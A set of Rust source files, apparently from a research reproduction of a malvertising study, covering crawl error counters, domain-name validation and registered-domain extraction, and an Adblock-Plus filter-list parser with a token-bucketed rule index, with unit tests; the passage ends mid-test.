    }

    /// Sum over the per-class failure counters (retries and visit outcomes
    /// are bookkeeping, not failures, and are excluded).
    pub fn total_errors(&self) -> u64 {
        self.dns_failures
            + self.http_5xx
            + self.timeouts
            + self.connection_resets
            + self.truncated_bodies
            + self.malformed_html
            + self.redirect_failures
    }

    /// True when no failure of any class was recorded.
    pub fn is_clean(&self) -> bool {
        self.total_errors() == 0 && self.retries == 0 && self.failed_visits == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn record_hits_every_class() {
        let mut c = ErrorCounters::default();
        for class in CrawlErrorClass::ALL {
            c.record(class);
        }
        assert_eq!(c.total_errors(), CrawlErrorClass::ALL.len() as u64);
        assert_eq!(c.dns_failures, 1);
        assert_eq!(c.redirect_failures, 1);
    }

    #[test]
    fn merge_is_componentwise_addition() {
        let mut a = ErrorCounters {
            dns_failures: 1,
            retries: 2,
            degraded_visits: 1,
            ..ErrorCounters::default()
        };
        let b = ErrorCounters {
            dns_failures: 3,
            http_5xx: 4,
            failed_visits: 1,
            ..ErrorCounters::default()
        };
        a.merge(&b);
        assert_eq!(a.dns_failures, 4);
        assert_eq!(a.http_5xx, 4);
        assert_eq!(a.retries, 2);
        assert_eq!(a.failed_visits, 1);
        assert_eq!(a.degraded_visits, 1);
    }

    #[test]
    fn labels_match_serde_spelling() {
        for class in CrawlErrorClass::ALL {
            let json = serde_json::to_string(&class).expect("serializable");
            assert_eq!(json, format!("\"{}\"", class.label()));
        }
    }

    #[test]
    fn clean_counters_round_trip() {
        let c = ErrorCounters::default();
        assert!(c.is_clean());
        let json = serde_json::to_string(&c).expect("serializable");
        let back: ErrorCounters = serde_json::from_str(&json).expect("deserializable");
        assert_eq!(back, c);
    }

    #[test]
    fn crawl_error_displays_attempts_and_recovery() {
        let err = CrawlError {
            class: CrawlErrorClass::Timeout,
            url: Url::parse("http://slow.example.com/ad").expect("valid url"),
            attempts: 3,
            recovered: true,
        };
        let s = err.to_string();
        assert!(s.contains("timeout"));
        assert!(s.contains("3 attempts"));
        assert!(s.contains("recovered"));
    }
}
