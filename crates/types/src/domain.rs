//! Domain names, TLD classification, and registered-domain extraction.
//!
//! The paper's Figure 4 breaks malvertising hosts down by top-level domain and
//! observes that generic TLDs (mainly `.com` and `.net`) carry more than two
//! thirds of the malvertising traffic. To support that analysis we model:
//!
//! * [`DomainName`] — a validated, lower-cased ASCII DNS name.
//! * [`Tld`] — the last label, classified as generic / country-code / other.
//! * [`RegisteredDomain`] — the eTLD+1, computed against a small embedded
//!   public-suffix snapshot (enough for the suffixes the simulation emits,
//!   including two-level suffixes such as `co.uk`).

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// Errors produced when parsing a [`DomainName`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DomainError {
    /// The name was empty or consisted only of dots.
    Empty,
    /// A label was empty (consecutive dots or leading/trailing dot).
    EmptyLabel,
    /// A label exceeded 63 octets or the name exceeded 253 octets.
    TooLong,
    /// A character outside `[a-z0-9-]` appeared in a label.
    BadCharacter(char),
    /// A label started or ended with a hyphen.
    BadHyphen,
}

impl fmt::Display for DomainError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DomainError::Empty => write!(f, "empty domain name"),
            DomainError::EmptyLabel => write!(f, "empty label in domain name"),
            DomainError::TooLong => write!(f, "domain name or label too long"),
            DomainError::BadCharacter(c) => write!(f, "invalid character {c:?} in domain name"),
            DomainError::BadHyphen => write!(f, "label starts or ends with a hyphen"),
        }
    }
}

impl std::error::Error for DomainError {}

/// A validated, lower-case ASCII DNS name such as `ads.example.com`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct DomainName(String);

impl DomainName {
    /// Parses and validates a domain name, lower-casing it.
    pub fn parse(input: &str) -> Result<Self, DomainError> {
        let name = input.trim_end_matches('.').to_ascii_lowercase();
        if name.is_empty() {
            return Err(DomainError::Empty);
        }
        if name.len() > 253 {
            return Err(DomainError::TooLong);
        }
        for label in name.split('.') {
            if label.is_empty() {
                return Err(DomainError::EmptyLabel);
            }
            if label.len() > 63 {
                return Err(DomainError::TooLong);
            }
            if label.starts_with('-') || label.ends_with('-') {
                return Err(DomainError::BadHyphen);
            }
            if let Some(c) = label
                .chars()
                .find(|c| !(c.is_ascii_lowercase() || c.is_ascii_digit() || *c == '-'))
            {
                return Err(DomainError::BadCharacter(c));
            }
        }
        Ok(Self(name))
    }

    /// The full name as a string slice.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Iterates over the labels, left to right (`ads`, `example`, `com`).
    pub fn labels(&self) -> impl Iterator<Item = &str> {
        self.0.split('.')
    }

    /// Number of labels.
    pub fn label_count(&self) -> usize {
        self.0.split('.').count()
    }

    /// The last label as a [`Tld`].
    pub fn tld(&self) -> Tld {
        Tld::from_label(self.0.rsplit('.').next().unwrap_or(""))
    }

    /// True when `self` equals `other` or is a subdomain of it
    /// (`ads.example.com` is within `example.com`).
    pub fn is_within(&self, other: &DomainName) -> bool {
        self.0 == other.0
            || (self.0.len() > other.0.len()
                && self.0.ends_with(other.0.as_str())
                && self.0.as_bytes()[self.0.len() - other.0.len() - 1] == b'.')
    }

    /// Computes the registered domain (eTLD+1) of this name.
    ///
    /// Returns `None` when the name *is* a public suffix (e.g. `com`,
    /// `co.uk`), since then there is no registrable part.
    pub fn registered_domain(&self) -> Option<RegisteredDomain> {
        let labels: Vec<&str> = self.labels().collect();
        let n = labels.len();
        // Longest matching public suffix, measured in labels.
        let mut suffix_len = 0;
        for take in 1..=n.min(3) {
            let candidate = labels[n - take..].join(".");
            if is_public_suffix(&candidate) {
                suffix_len = take;
            }
        }
        if suffix_len == 0 {
            // Unknown TLD: treat the last label as the suffix, per the PSL's
            // implicit "*" rule.
            suffix_len = 1;
        }
        if n <= suffix_len {
            return None;
        }
        let reg = labels[n - suffix_len - 1..].join(".");
        Some(RegisteredDomain(DomainName(reg)))
    }
}

impl FromStr for DomainName {
    type Err = DomainError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        DomainName::parse(s)
    }
}

impl fmt::Display for DomainName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// The registered domain (eTLD+1) of a host: the unit of administrative
/// control that the paper's per-domain statistics use.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct RegisteredDomain(DomainName);

impl RegisteredDomain {
    /// The underlying domain name.
    pub fn domain(&self) -> &DomainName {
        &self.0
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        self.0.as_str()
    }
}

impl fmt::Display for RegisteredDomain {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.0.fmt(f)
    }
}

/// Embedded public-suffix snapshot: one-level generic suffixes plus the
/// two-level country suffixes that the simulation's domain generator emits.
const PUBLIC_SUFFIXES: &[&str] = &[
    // Generic TLDs.
    "com", "net", "org", "info", "biz", "name", "pro", "mobi", "asia", "tel", "xxx",
    // Sponsored / infrastructure.
    "edu", "gov", "mil", "int", "aero", "coop", "museum", "jobs", "travel", "cat", "post",
    // Country codes used by the simulation.
    "us", "uk", "de", "fr", "nl", "ru", "cn", "jp", "br", "in", "it", "es", "pl", "ca", "au",
    "se", "ch", "at", "be", "dk", "fi", "no", "cz", "gr", "pt", "ro", "hu", "tr", "kr", "mx",
    "ar", "cl", "co", "za", "il", "ir", "ua", "vn", "th", "id", "my", "sg", "hk", "tw", "nz",
    "ie", "sk", "bg", "lt", "lv", "ee", "tv", "cc", "ws", "me", "io",
    // Two-level public suffixes.
    "co.uk", "org.uk", "ac.uk", "gov.uk", "me.uk", "net.uk",
    "com.au", "net.au", "org.au", "com.br", "net.br", "org.br",
    "co.jp", "ne.jp", "or.jp", "ac.jp", "com.cn", "net.cn", "org.cn",
    "co.in", "net.in", "org.in", "co.kr", "or.kr", "com.mx", "com.ar",
    "co.za", "co.nz", "net.nz", "org.nz", "com.tw", "com.hk", "com.sg",
    "com.tr", "com.ua",
];

fn is_public_suffix(candidate: &str) -> bool {
    PUBLIC_SUFFIXES.contains(&candidate)
}

/// Classification of a top-level domain, as used by Figure 4.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum TldClass {
    /// Generic TLDs (`.com`, `.net`, `.org`, …).
    Generic,
    /// Two-letter country-code TLDs.
    CountryCode,
    /// Anything else (unknown labels).
    Other,
}

/// A top-level domain label (always lower-case).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Tld(String);

const GENERIC_TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "name", "pro", "mobi", "asia", "tel", "xxx", "edu",
    "gov", "mil", "int", "aero", "coop", "museum", "jobs", "travel", "cat", "post",
];

impl Tld {
    /// Builds a TLD from a raw label (lower-cased).
    pub fn from_label(label: &str) -> Self {
        Self(label.to_ascii_lowercase())
    }

    /// The label as a string slice (without leading dot).
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Classifies the TLD per Figure 4's generic-vs-country split.
    pub fn class(&self) -> TldClass {
        if GENERIC_TLDS.contains(&self.0.as_str()) {
            TldClass::Generic
        } else if self.0.len() == 2 && self.0.chars().all(|c| c.is_ascii_lowercase()) {
            TldClass::CountryCode
        } else {
            TldClass::Other
        }
    }
}

impl fmt::Display for Tld {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, ".{}", self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_valid_names() {
        for name in ["example.com", "ads.tracker.co.uk", "a-b.c0m.net", "x.io"] {
            assert!(DomainName::parse(name).is_ok(), "{name} should parse");
        }
    }

    #[test]
    fn parse_normalizes_case_and_trailing_dot() {
        let d = DomainName::parse("Ads.Example.COM.").unwrap();
        assert_eq!(d.as_str(), "ads.example.com");
    }

    #[test]
    fn parse_rejects_invalid() {
        assert_eq!(DomainName::parse(""), Err(DomainError::Empty));
        assert_eq!(DomainName::parse("a..b"), Err(DomainError::EmptyLabel));
        assert_eq!(DomainName::parse("-a.com"), Err(DomainError::BadHyphen));
        assert_eq!(DomainName::parse("a-.com"), Err(DomainError::BadHyphen));
        assert!(matches!(
            DomainName::parse("sp ace.com"),
            Err(DomainError::BadCharacter(' '))
        ));
        let long_label = format!("{}.com", "a".repeat(64));
        assert_eq!(DomainName::parse(&long_label), Err(DomainError::TooLong));
        let long_name = std::iter::repeat("abcdefgh")
            .take(40)
            .collect::<Vec<_>>()
            .join(".");
        assert_eq!(DomainName::parse(&long_name), Err(DomainError::TooLong));
    }

    #[test]
    fn tld_extraction_and_class() {
        let d = DomainName::parse("news.example.com").unwrap();
        assert_eq!(d.tld().as_str(), "com");
        assert_eq!(d.tld().class(), TldClass::Generic);

        let d = DomainName::parse("shop.example.de").unwrap();
        assert_eq!(d.tld().class(), TldClass::CountryCode);

        let d = DomainName::parse("thing.example.weird1").unwrap();
        assert_eq!(d.tld().class(), TldClass::Other);
    }

    #[test]
    fn registered_domain_simple() {
        let d = DomainName::parse("ads.cdn.example.com").unwrap();
        assert_eq!(d.registered_domain().unwrap().as_str(), "example.com");
    }

    #[test]
    fn registered_domain_two_level_suffix() {
        let d = DomainName::parse("www.shop.example.co.uk").unwrap();
        assert_eq!(d.registered_domain().unwrap().as_str(), "example.co.uk");
    }

    #[test]
    fn registered_domain_of_suffix_is_none() {
        assert!(DomainName::parse("com").unwrap().registered_domain().is_none());
        assert!(DomainName::parse("co.uk")
            .unwrap()
            .registered_domain()
            .is_none());
    }

    #[test]
    fn registered_domain_unknown_tld_falls_back() {
        let d = DomainName::parse("a.b.custom").unwrap();
        assert_eq!(d.registered_domain().unwrap().as_str(), "b.custom");
    }

    #[test]
    fn is_within_semantics() {
        let parent = DomainName::parse("example.com").unwrap();
        let child = DomainName::parse("ads.example.com").unwrap();
        let sneaky = DomainName::parse("evilexample.com").unwrap();
        assert!(child.is_within(&parent));
        assert!(parent.is_within(&parent));
        assert!(!sneaky.is_within(&parent));
        assert!(!parent.is_within(&child));
    }

    #[test]
    fn display_roundtrip() {
        let d = DomainName::parse("a.b.com").unwrap();
        assert_eq!(d.to_string(), "a.b.com");
        assert_eq!(d.tld().to_string(), ".com");
    }

    #[test]
    fn label_iteration() {
        let d = DomainName::parse("a.b.com").unwrap();
        assert_eq!(d.labels().collect::<Vec<_>>(), vec!["a", "b", "com"]);
        assert_eq!(d.label_count(), 3);
    }
}
