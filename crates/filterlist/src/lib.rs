//! # malvert-filterlist
//!
//! An Adblock-Plus-syntax filter-list engine.
//!
//! §3.1 of the paper: *"to distinguish the advertisement-related iframes, we
//! utilized EasyList"*. The crawler in this reproduction does exactly the
//! same — every iframe URL on a crawled page is matched against a filter
//! list in EasyList syntax, and only matching iframes enter the ad corpus.
//!
//! ## Supported syntax
//!
//! * Blocking rules with `*` wildcards and the `^` separator placeholder.
//! * Anchors: `||` (registered-domain anchor), leading `|`, trailing `|`.
//! * Exception rules (`@@` prefix).
//! * Options after `$`: `domain=a.com|~b.com`, `third-party`,
//!   `~third-party`, and the resource-type options `script`, `image`,
//!   `subdocument`, `xmlhttprequest`, `object` (with `~` negation).
//! * Comments (`!`), metadata (`[Adblock Plus 2.0]` headers), and
//!   element-hiding rules (`##`, `#@#`) — parsed and counted but not used
//!   for network matching, like a network-layer blocker would.
//!
//! ## Not supported
//!
//! Regular-expression rules (`/.../`), `$csp`, `$rewrite`, and the redirect
//! options: none of them affect ad *identification*, which is this crate's
//! only job in the study.
//!
//! ## Matching engine
//!
//! [`FilterSet::parse`] builds a token index over the rules (see
//! [`index`]): matching tokenizes the normalized URL once and evaluates
//! only the rules whose bucket token appears in it, instead of scanning the
//! whole list. The pre-index linear scan survives as
//! [`FilterSet::matches_naive`] — the differential-testing reference the
//! index must agree with byte-for-byte.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod index;
pub mod matcher;
pub mod rule;

pub use index::RuleIndex;
pub use matcher::{FilterSet, MatchResult, MatchScratch, RequestContext, ResourceType};
pub use rule::{NetworkRule, ParsedLine, RuleOptions};
