//! Filter-rule parsing (Adblock Plus syntax).

use std::fmt;

/// Resource-type options a rule can constrain.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum TypeOption {
    /// `$script`
    Script,
    /// `$image`
    Image,
    /// `$subdocument` (iframes)
    Subdocument,
    /// `$xmlhttprequest`
    Xhr,
    /// `$object` (Flash)
    Object,
    /// `$document`
    Document,
}

impl TypeOption {
    fn parse(name: &str) -> Option<Self> {
        Some(match name {
            "script" => TypeOption::Script,
            "image" => TypeOption::Image,
            "subdocument" => TypeOption::Subdocument,
            "xmlhttprequest" => TypeOption::Xhr,
            "object" => TypeOption::Object,
            "document" => TypeOption::Document,
            _ => return None,
        })
    }
}

/// Parsed `$`-options of a network rule.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RuleOptions {
    /// `domain=` inclusions (request page must be on/within one of these).
    pub include_domains: Vec<String>,
    /// `domain=` exclusions (`~`-prefixed entries).
    pub exclude_domains: Vec<String>,
    /// `third-party` (Some(true)) / `~third-party` (Some(false)).
    pub third_party: Option<bool>,
    /// Positive resource types (`$script,image`); empty = all types.
    pub include_types: Vec<TypeOption>,
    /// Negated resource types (`$~script`).
    pub exclude_types: Vec<TypeOption>,
}

/// A parsed network (blocking or exception) rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NetworkRule {
    /// Original rule text (for reporting which rule matched).
    pub text: String,
    /// Pattern body with anchors stripped, lower-cased.
    pub pattern: String,
    /// `@@` exception rule.
    pub is_exception: bool,
    /// `||` prefix: anchor at a hostname label boundary.
    pub domain_anchor: bool,
    /// Leading `|`: anchor at URL start.
    pub start_anchor: bool,
    /// Trailing `|`: anchor at URL end.
    pub end_anchor: bool,
    /// Parsed options.
    pub options: RuleOptions,
}

/// One parsed line of a filter list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParsedLine {
    /// A network rule (blocking or exception).
    Network(NetworkRule),
    /// An element-hiding rule (`##` / `#@#`) — stored, not matched.
    ElementHiding {
        /// The domain prefix (may be empty for generic rules).
        domains: String,
        /// The CSS selector.
        selector: String,
        /// True for `#@#` exceptions.
        is_exception: bool,
    },
    /// A comment (`!`) or list header (`[...]`).
    Comment(String),
    /// An empty line.
    Blank,
    /// A line using unsupported syntax (regex rules etc.).
    Unsupported(String),
}

/// Errors from [`NetworkRule::parse`]: the rule uses unsupported syntax.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsupportedRule(pub String);

impl fmt::Display for UnsupportedRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "unsupported filter rule: {}", self.0)
    }
}

impl std::error::Error for UnsupportedRule {}

/// Parses one line of a filter list.
pub fn parse_line(line: &str) -> ParsedLine {
    let line = line.trim();
    if line.is_empty() {
        return ParsedLine::Blank;
    }
    if line.starts_with('!') || (line.starts_with('[') && line.ends_with(']')) {
        return ParsedLine::Comment(line.to_string());
    }
    // Element hiding: `domains##selector` or `domains#@#selector`.
    if let Some(idx) = line.find("#@#") {
        return ParsedLine::ElementHiding {
            domains: line[..idx].to_string(),
            selector: line[idx + 3..].to_string(),
            is_exception: true,
        };
    }
    if let Some(idx) = line.find("##") {
        return ParsedLine::ElementHiding {
            domains: line[..idx].to_string(),
            selector: line[idx + 2..].to_string(),
            is_exception: false,
        };
    }
    match NetworkRule::parse(line) {
        Ok(rule) => ParsedLine::Network(rule),
        Err(_) => ParsedLine::Unsupported(line.to_string()),
    }
}

impl NetworkRule {
    /// Parses a network rule. Errors on unsupported syntax (regex rules).
    pub fn parse(text: &str) -> Result<Self, UnsupportedRule> {
        let original = text.to_string();
        let mut body = text;

        let is_exception = if let Some(rest) = body.strip_prefix("@@") {
            body = rest;
            true
        } else {
            false
        };

        // Regex rules (`/.../` with regex metacharacters inside) are
        // unsupported. A plain `/banner/` path fragment is a substring rule.
        if body.len() >= 2 && body.starts_with('/') && body.ends_with('/') {
            let inner = &body[1..body.len() - 1];
            if inner
                .chars()
                .any(|c| matches!(c, '\\' | '(' | ')' | '[' | ']' | '{' | '}' | '+' | '?'))
            {
                return Err(UnsupportedRule(original));
            }
        }

        // Split off options at the last unescaped `$` (a `$` in the pattern
        // body is rare; EasyList convention is that options follow the last
        // `$` when it introduces a known option keyword).
        let mut options = RuleOptions::default();
        if let Some(idx) = body.rfind('$') {
            let opts_str = &body[idx + 1..];
            if !opts_str.is_empty() && looks_like_options(opts_str) {
                parse_options(opts_str, &mut options)?;
                body = &body[..idx];
            }
        }

        let mut domain_anchor = false;
        let mut start_anchor = false;
        if let Some(rest) = body.strip_prefix("||") {
            domain_anchor = true;
            body = rest;
        } else if let Some(rest) = body.strip_prefix('|') {
            start_anchor = true;
            body = rest;
        }
        let mut end_anchor = false;
        if let Some(rest) = body.strip_suffix('|') {
            end_anchor = true;
            body = rest;
        }

        if body.is_empty() {
            return Err(UnsupportedRule(original));
        }

        Ok(NetworkRule {
            text: original,
            pattern: body.to_ascii_lowercase(),
            is_exception,
            domain_anchor,
            start_anchor,
            end_anchor,
            options,
        })
    }
}

fn looks_like_options(s: &str) -> bool {
    s.split(',').all(|opt| {
        let opt = opt.trim().trim_start_matches('~');
        opt.starts_with("domain=")
            || opt == "third-party"
            || TypeOption::parse(opt).is_some()
            || opt == "popup"
            || opt == "match-case"
    })
}

fn parse_options(s: &str, out: &mut RuleOptions) -> Result<(), UnsupportedRule> {
    for opt in s.split(',') {
        let opt = opt.trim();
        if let Some(domains) = opt.strip_prefix("domain=") {
            for d in domains.split('|') {
                if let Some(neg) = d.strip_prefix('~') {
                    out.exclude_domains.push(neg.to_ascii_lowercase());
                } else if !d.is_empty() {
                    out.include_domains.push(d.to_ascii_lowercase());
                }
            }
        } else if opt == "third-party" {
            out.third_party = Some(true);
        } else if opt == "~third-party" {
            out.third_party = Some(false);
        } else if let Some(neg) = opt.strip_prefix('~') {
            if let Some(t) = TypeOption::parse(neg) {
                out.exclude_types.push(t);
            }
            // Unknown negated options are ignored.
        } else if let Some(t) = TypeOption::parse(opt) {
            out.include_types.push(t);
        } else if opt == "popup" || opt == "match-case" {
            // Accepted and ignored: they do not affect identification.
        } else {
            return Err(UnsupportedRule(opt.to_string()));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_substring_rule() {
        let r = NetworkRule::parse("/banner/ads/").unwrap();
        assert_eq!(r.pattern, "/banner/ads/");
        assert!(!r.domain_anchor && !r.start_anchor && !r.end_anchor && !r.is_exception);
    }

    #[test]
    fn domain_anchor_rule() {
        let r = NetworkRule::parse("||ads.example.com^").unwrap();
        assert!(r.domain_anchor);
        assert_eq!(r.pattern, "ads.example.com^");
    }

    #[test]
    fn start_and_end_anchors() {
        let r = NetworkRule::parse("|http://ads.|").unwrap();
        assert!(r.start_anchor && r.end_anchor);
        assert_eq!(r.pattern, "http://ads.");
    }

    #[test]
    fn exception_rule() {
        let r = NetworkRule::parse("@@||good-ads.com^$domain=news.com").unwrap();
        assert!(r.is_exception);
        assert_eq!(r.options.include_domains, vec!["news.com"]);
    }

    #[test]
    fn options_parsing() {
        let r = NetworkRule::parse("||track.com^$third-party,script,domain=a.com|~b.com").unwrap();
        assert_eq!(r.options.third_party, Some(true));
        assert_eq!(r.options.include_types, vec![TypeOption::Script]);
        assert_eq!(r.options.include_domains, vec!["a.com"]);
        assert_eq!(r.options.exclude_domains, vec!["b.com"]);
    }

    #[test]
    fn negated_options() {
        let r = NetworkRule::parse("||x.com^$~third-party,~image").unwrap();
        assert_eq!(r.options.third_party, Some(false));
        assert_eq!(r.options.exclude_types, vec![TypeOption::Image]);
    }

    #[test]
    fn dollar_in_pattern_not_options() {
        // `$` not followed by option keywords stays in the pattern.
        let r = NetworkRule::parse("/ad$money/").unwrap();
        assert_eq!(r.pattern, "/ad$money/");
    }

    #[test]
    fn regex_rule_unsupported() {
        // `/.../` with regex metacharacters is a regex rule → unsupported.
        assert!(NetworkRule::parse("/banner\\d+/").is_err());
        assert!(NetworkRule::parse("/^https?://ads/").is_err());
        // A plain path fragment is a substring rule.
        assert!(NetworkRule::parse("/banner/").is_ok());
    }

    #[test]
    fn case_lowered() {
        let r = NetworkRule::parse("||ADS.Example.COM/Banner").unwrap();
        assert_eq!(r.pattern, "ads.example.com/banner");
    }

    #[test]
    fn parse_line_variants() {
        assert!(matches!(parse_line(""), ParsedLine::Blank));
        assert!(matches!(parse_line("! comment"), ParsedLine::Comment(_)));
        assert!(matches!(
            parse_line("[Adblock Plus 2.0]"),
            ParsedLine::Comment(_)
        ));
        assert!(matches!(
            parse_line("example.com##.ad-banner"),
            ParsedLine::ElementHiding {
                is_exception: false,
                ..
            }
        ));
        assert!(matches!(
            parse_line("example.com#@#.ad-banner"),
            ParsedLine::ElementHiding {
                is_exception: true,
                ..
            }
        ));
        assert!(matches!(parse_line("||ads.com^"), ParsedLine::Network(_)));
    }

    #[test]
    fn unknown_option_is_unsupported() {
        assert!(matches!(
            parse_line("||x.com^$websocket"),
            // `websocket` is not in looks_like_options, so the `$...` stays
            // in the pattern — rule still parses as a network rule.
            ParsedLine::Network(_)
        ));
    }

    #[test]
    fn empty_pattern_rejected() {
        assert!(NetworkRule::parse("||").is_err());
        assert!(NetworkRule::parse("|").is_err());
    }
}
