//! Token-bucketed rule index.
//!
//! Production ad-blockers do not scan every rule per request: they bucket
//! rules by a token that is guaranteed to appear in any URL the rule can
//! match, tokenize the URL once, and only evaluate the rules whose bucket
//! token occurs in the URL. This module implements that scheme for
//! [`crate::FilterSet`]:
//!
//! * A *token* is a maximal run of ASCII alphanumerics of at least
//!   [`MIN_TOKEN_LEN`] bytes (patterns are already lowercased at parse
//!   time, and matching normalizes the URL the same way).
//! * A pattern token is *safe* for indexing only when the pattern
//!   guarantees it appears as a complete URL token: its left edge must be
//!   the pattern start under a start/domain anchor or a literal non-`*`
//!   separator byte, and its right edge the pattern end under an end anchor
//!   or a literal non-`*` byte. Tokens touching a `*` wildcard could be
//!   extended by arbitrary URL characters, so they are never safe.
//! * Each rule is filed under the hash of its *rarest* safe token (fewest
//!   rules sharing it, ties broken by token bytes for determinism). Rules
//!   with no safe token land in a small fallback bucket that every lookup
//!   checks.
//!
//! Buckets key on 64-bit FNV-1a hashes. A hash collision can only add a
//! spurious *candidate* — every candidate is still verified by the full
//! matcher — and can never hide a rule, because equal token strings always
//! hash equal. Correctness therefore never depends on the hash.

use crate::rule::NetworkRule;
use std::collections::HashMap;

/// Minimum token length worth indexing. Shorter runs (`ad`, `js`) occur in
/// almost every URL and would put most rules in overfull buckets.
pub const MIN_TOKEN_LEN: usize = 3;

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// FNV-1a hash of a token's bytes; the bucket key.
#[must_use]
pub fn token_hash(token: &[u8]) -> u64 {
    let mut hash = FNV_OFFSET;
    for &byte in token {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(FNV_PRIME);
    }
    hash
}

/// Appends the hash of every token (maximal ASCII-alphanumeric run of at
/// least [`MIN_TOKEN_LEN`] bytes) in `text` to `out` after clearing it.
/// `text` must already be normalized (lowercased); callers pass the same
/// normalized form the matcher sees.
pub fn url_token_hashes(text: &str, out: &mut Vec<u64>) {
    out.clear();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if !bytes[i].is_ascii_alphanumeric() {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && bytes[i].is_ascii_alphanumeric() {
            i += 1;
        }
        if i - start >= MIN_TOKEN_LEN {
            out.push(token_hash(&bytes[start..i]));
        }
    }
}

/// The safe tokens of one rule's pattern (see the module docs for the
/// boundary conditions). Returned in pattern order.
fn safe_tokens(rule: &NetworkRule) -> Vec<&[u8]> {
    let pattern = rule.pattern.as_bytes();
    let mut tokens = Vec::new();
    let mut i = 0;
    while i < pattern.len() {
        if !pattern[i].is_ascii_alphanumeric() {
            i += 1;
            continue;
        }
        let start = i;
        while i < pattern.len() && pattern[i].is_ascii_alphanumeric() {
            i += 1;
        }
        if i - start < MIN_TOKEN_LEN {
            continue;
        }
        // Left edge: at pattern start the token is complete only when an
        // anchor pins it to the URL start or a host-label boundary; inside
        // the pattern, any literal byte other than `*` is a non-alphanumeric
        // separator (the run is maximal), so the token cannot extend left.
        let left_ok = if start == 0 {
            rule.start_anchor || rule.domain_anchor
        } else {
            pattern[start - 1] != b'*'
        };
        // Right edge, symmetrically: pattern end needs the end anchor.
        let right_ok = if i == pattern.len() {
            rule.end_anchor
        } else {
            pattern[i] != b'*'
        };
        if left_ok && right_ok {
            tokens.push(&pattern[start..i]);
        }
    }
    tokens
}

/// An index over one rule vector (blocking or exceptions). Values are rule
/// indices into that vector — i.e. parse order, which is the match
/// priority.
#[derive(Debug, Clone, Default)]
pub struct RuleIndex {
    buckets: HashMap<u64, Vec<u32>>,
    fallback: Vec<u32>,
}

impl RuleIndex {
    /// Builds the index: each rule is filed under its rarest safe token,
    /// or into the fallback bucket when it has none.
    #[must_use]
    pub fn build(rules: &[NetworkRule]) -> RuleIndex {
        let per_rule: Vec<Vec<&[u8]>> = rules.iter().map(safe_tokens).collect();
        // Global frequency of each token across rules: rarer tokens make
        // smaller buckets. Counting occurrences (not distinct rules) is
        // fine — it is a deterministic function of the rule list and only
        // steers bucket sizes, never correctness.
        let mut frequency: HashMap<&[u8], u32> = HashMap::new();
        for tokens in &per_rule {
            for token in tokens {
                *frequency.entry(token).or_insert(0) += 1;
            }
        }
        let mut index = RuleIndex::default();
        for (rule_idx, tokens) in per_rule.iter().enumerate() {
            // Tie-break on the token bytes so the choice never depends on
            // HashMap iteration order.
            match tokens.iter().min_by_key(|t| (frequency[*t], **t)) {
                Some(token) => index
                    .buckets
                    .entry(token_hash(token))
                    .or_default()
                    .push(rule_idx as u32),
                None => index.fallback.push(rule_idx as u32),
            }
        }
        index
    }

    /// Number of rules in the always-checked fallback bucket.
    #[must_use]
    pub fn fallback_len(&self) -> usize {
        self.fallback.len()
    }

    /// Collects into `out` the candidate rule indices for a URL with the
    /// given token hashes: every bucket named by a URL token, plus the
    /// fallback bucket. `out` comes back sorted ascending and deduplicated
    /// — exactly parse order, so scanning it front to back preserves the
    /// naive scan's first-match priority.
    pub fn candidates(&self, url_tokens: &[u64], out: &mut Vec<u32>) {
        out.clear();
        out.extend_from_slice(&self.fallback);
        for token in url_tokens {
            if let Some(bucket) = self.buckets.get(token) {
                out.extend_from_slice(bucket);
            }
        }
        out.sort_unstable();
        out.dedup();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str) -> NetworkRule {
        NetworkRule::parse(text).unwrap()
    }

    fn token_strings(r: &NetworkRule) -> Vec<String> {
        safe_tokens(r)
            .into_iter()
            .map(|t| String::from_utf8(t.to_vec()).unwrap())
            .collect()
    }

    #[test]
    fn tokens_bounded_by_literals_are_safe() {
        assert_eq!(token_strings(&rule("/banner/ads/")), vec!["banner", "ads"]);
        // `^` and `.` are literal non-alphanumeric separators.
        assert_eq!(
            token_strings(&rule("||ads.example.com^")),
            vec!["ads", "example", "com"]
        );
    }

    #[test]
    fn wildcard_adjacent_tokens_are_unsafe() {
        // `show` touches `*` on the right (the URL token there could be
        // `showcase`), `creative` touches `*` on both sides, `id` is too
        // short — nothing is safely indexable.
